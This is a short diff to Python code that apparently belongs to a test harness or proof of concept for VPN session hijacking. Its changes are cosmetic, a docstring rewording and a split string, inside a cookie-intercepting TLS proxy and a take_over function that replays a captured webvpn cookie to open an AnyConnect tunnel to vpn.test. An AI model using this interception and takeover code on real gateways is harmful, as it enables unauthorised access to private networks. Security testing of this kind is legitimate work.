@@ -8,7 +8,7 @@ from .tls_server import TlsServer
 
 
 class CookieProxy(TlsServer):
-    """change(cookie) gives the cookie that the gateway sees. `cookies` holds those the client sent."""
+    """change(cookie) gives the cookie that the gateway sees; `cookies` are those that came."""
 
     def __init__(self, host, port, tls, to_port, change=lambda cookie: cookie):
         self.host, self.to_port, self.change = host, to_port, change
@@ -57,7 +57,8 @@ def take_over(host, address, port, cookie):
     stream = dial_tls(host, address, port)
     stream.sendall(f"CONNECT /CSCOSSLC/tunnel HTTP/1.1\r\nHost: vpn.test\r\n"
                    f"User-Agent: Open AnyConnect VPN Agent v9.01\r\nCookie: webvpn={cookie}\r\n"
-                   f"X-CSTP-Version: 1\r\nX-CSTP-Address-Type: IPv4\r\nX-CSTP-Base-MTU: 1500\r\n\r\n"
+                   f"X-CSTP-Version: 1\r\nX-CSTP-Address-Type: IPv4\r\n"
+                   f"X-CSTP-Base-MTU: 1500\r\n\r\n"
                    .encode())
     answer = stream.recv(4096)
     if not answer.startswith(b"HTTP/1.1 200 "):
